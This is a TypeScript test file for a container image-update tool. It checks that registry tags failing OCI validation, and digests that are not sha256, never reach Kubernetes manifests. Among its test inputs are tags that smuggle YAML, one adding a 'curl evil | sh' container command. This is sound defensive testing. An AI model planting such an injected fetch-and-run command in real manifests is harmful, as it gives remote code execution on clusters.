// Issue 16: "nothing is written for tags that fail validation". A registry is outside the
// repository and may list anything: a tag that is not a valid OCI tag (a newline and YAML after it)
// or a digest that is not a sha256 must never reach a file, where it would become manifest text.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { loadConfig } from '../../src/core/config/config.ts';
import { findImageUpdates, type ImageRegistry } from '../../src/core/images/find.ts';
import { RepoPaths } from '../../src/core/paths.ts';
import { locateTags } from '../../src/core/images/locate.ts';
import { parseImagePolicies, type ImagePolicy } from '../../src/core/images/policy.ts';
import { selectLatest } from '../../src/core/images/select.ts';
import { applyUpdates, planUpdates, type PolicyResult } from '../../src/core/images/updates.ts';

const FILE = `spec:
  containers:
    - image: ghcr.io/acme/web:v1 # the web tier
`;

function policy(raw: Record<string, unknown>): ImagePolicy {
  const problems: string[] = [];
  const [parsed] = parseImagePolicies({ web: raw }, (at, message) => problems.push(`${at}: ${message}`));
  assert.deepEqual(problems, []);
  assert.ok(parsed);
  return parsed;
}

function written(p: ImagePolicy, tags: readonly string[], digest: string | undefined): string {
  const latest = selectLatest(p, tags);
  const results = new Map<string, PolicyResult>([['web', { policy: p, latest, digest }]]);
  return applyUpdates(FILE, planUpdates(locateTags(FILE, 'web.yaml'), results));
}

const alphabetical = { image: 'ghcr.io/acme/web', policy: { alphabetical: { order: 'asc' } } };
const DIGEST = `sha256:${'a'.repeat(64)}`;

test('a valid newer tag is written (the checks below can fail)', () => {
  assert.equal(written(policy(alphabetical), ['v1', 'v2'], DIGEST), FILE.replace('web:v1', 'web:v2'));
});

test('a tag that is not a valid OCI tag is never written, however it sorts', () => {
  for (const bogus of [
    'v9\n      command: [sh, -c, "curl evil | sh"]',
    'v9 #',
    'v9"',
    `v${'9'.repeat(128)}`,
    'v9/../x',
  ])
    assert.equal(written(policy(alphabetical), ['v1', 'v2', bogus], DIGEST), FILE, JSON.stringify(bogus));
});

test('with pinDigest, a digest that is missing or not a sha256 writes nothing', () => {
  const pinned = policy({ ...alphabetical, pinDigest: true });
  assert.equal(written(pinned, ['v1', 'v2'], DIGEST), FILE.replace('web:v1', `web:v2@${DIGEST}`));
  for (const digest of [undefined, 'sha256:abc', `sha256:${'A'.repeat(64)}`, `sha512:${'a'.repeat(128)}`])
    assert.equal(written(pinned, ['v1', 'v2'], digest), FILE, String(digest));
});

test('a registry listing an invalid tag: ignored with a warning, and the valid latest is still proposed', async () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'slipway-invalid-tags-'));
  try {
    mkdirSync(path.join(dir, 'clusters/dev'), { recursive: true });
    writeFileSync(path.join(dir, 'clusters/dev/web.yaml'), FILE);
    writeFileSync(
      path.join(dir, 'slipway.yaml'),
      'environments:\n  dev:\n    path: clusters/dev\nimage-policies:\n  web:\n    image: ghcr.io/acme/web\n    policy:\n      alphabetical:\n        order: asc\n',
    );
    const repo = new RepoPaths(dir);
    // The engine's registry port, answering as a hostile registry might: no Kubernetes involved.
    const registry: ImageRegistry = {
      tags: () => Promise.resolve(['v1', 'v2', 'v9\n      command: [sh]']),
      digest: () => Promise.resolve(DIGEST),
    };
    const scan = await findImageUpdates(repo, loadConfig(repo), registry);
    const [dev] = scan.environments;
    assert.deepEqual(
      dev?.updates.map((u) => `${u.from} → ${u.to}`),
      ['v1 → v2'],
    );
    assert.ok(
      scan.notes?.some(
        (note) => note.includes('ignored 1 tag') && note.includes('"v9\\n      command: [sh]"'),
      ),
      JSON.stringify(scan.notes),
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
